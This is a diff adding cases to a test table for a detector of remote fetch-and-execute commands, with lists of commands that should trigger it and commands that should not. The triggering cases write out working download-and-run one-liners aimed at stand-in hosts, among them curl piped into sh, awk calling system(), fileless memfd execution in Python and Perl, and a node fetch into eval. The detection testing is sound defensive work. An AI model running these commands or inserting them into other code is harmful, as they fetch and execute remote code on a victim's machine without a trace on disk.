@@ -9,6 +9,7 @@ import { commandRemoteFetchExecute } from './remote-fetch-execute.ts';
 
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'an address that deno runs': runs('deno', 'run', '-A', 'https://203.0.113.7/mod.ts'),
     'curl into sh': runs('sh', '-c', 'curl -s http://203.0.113.7/x | sh'),
     'wget into an absolute bash path': runs('/bin/sh', '-c', 'wget -qO- 203.0.113.7|/bin/bash'),
     'a dash before the shell text': runs('/bin/sh', '-c', '--', 'curl http://files.example.com/x|sh'),
@@ -51,8 +52,39 @@ indicatorTable(commandRemoteFetchExecute, {
     'a publisher in the name of another host': script(
       'curl -LO https://dl.k8s.io.example.com/kubectl; chmod +x kubectl',
     ),
+    'lines of a download that awk starts': runs(
+      'awk',
+      'BEGIN{c="wget -qO- 203.0.113.7/a"; while((c|getline l)>0) system(l)}',
+    ),
+    'a program without a file, in Python': runs(
+      'python3',
+      '-c',
+      "import ctypes,os,urllib.request as u\nd=u.urlopen('http://203.0.113.7/e').read()\nf=ctypes.CDLL(None).syscall(319,b'',1)\nos.write(f,d)\nos.execv('/proc/self/fd/%d'%f,['x'])",
+    ),
+    'a program without a file, in Perl': runs(
+      'perl',
+      '-e',
+      `my $f=syscall(319,my $n='',1);open(my $F,'>&='.$f);print $F \`curl -s http://203.0.113.7/x\`;exec {"/proc/$$/fd/$f"} 'x';`,
+    ),
+    'a promise that ends in eval': runs(
+      'node',
+      '-e',
+      "fetch('https://cdn.example.net/p.js').then(r=>r.text()).then(eval)",
+    ),
   },
   staysSilent: {
+    'what awk reads and puts into a command': runs('awk', 'BEGIN{"date" | getline d; system("echo " d)}'),
+    'a download that is kept in memory': runs(
+      'python3',
+      '-c',
+      "import os,urllib.request as u\nf=os.memfd_create('x')\nos.write(f,u.urlopen('https://example.com/a').read())\nprint(os.fstat(f).st_size)",
+    ),
+    'a promise that ends in a print': runs(
+      'node',
+      '-e',
+      "fetch('https://example.com/p').then(r=>r.text()).then(console.log)",
+    ),
+    'the standard library of deno': runs('deno', 'run', 'https://deno.land/std@0.224.0/http/file_server.ts'),
     'a health check that only fetches': runs('curl', '-fsS', 'https://example.com/health'),
     'a pipe with no fetch': runs('sh', '-c', 'cat job.sh | sh'),
     'a download into a reader': script('curl -s https://example.com/a.json | jq .items'),
